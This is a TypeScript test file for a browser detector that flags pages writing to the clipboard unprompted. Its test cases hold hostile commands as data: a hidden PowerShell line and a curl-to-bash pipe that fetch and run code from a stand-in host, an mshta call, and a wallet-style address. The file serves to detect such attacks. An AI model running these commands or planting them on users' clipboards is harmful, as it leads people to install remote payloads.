import { detectorTest } from '../../testing/detectorTest.ts'
import { browsing } from '../../testing/sampleUrl.ts'
import detector from './unrequested-clipboard-write.ts'

const copies = (texts: string[], unprompted: boolean) => ({
  browsing: browsing({ copies: texts.map((text) => ({ text, unprompted, shown: false, instead: null })) }),
})
const writes = (...texts: string[]) => copies(texts, true)

detectorTest(detector, {
  detects: {
    'a command for Windows': writes('powershell -w hidden -c "iex (irm https://else.example/a)"'),
    'a command for a Mac': writes('curl -s https://else.example/a | bash'),
    'an address': { ...writes(`0x${'ab'.repeat(20)}`), severity: 'medium' },
  },
  clears: {
    'a coupon': writes('TEA10'),
    'a text that mentions curl': writes('curl is a program'),
    nothing: {},
    'a command after a press': copies(['mshta https://else.example/a'], false),
  },
})
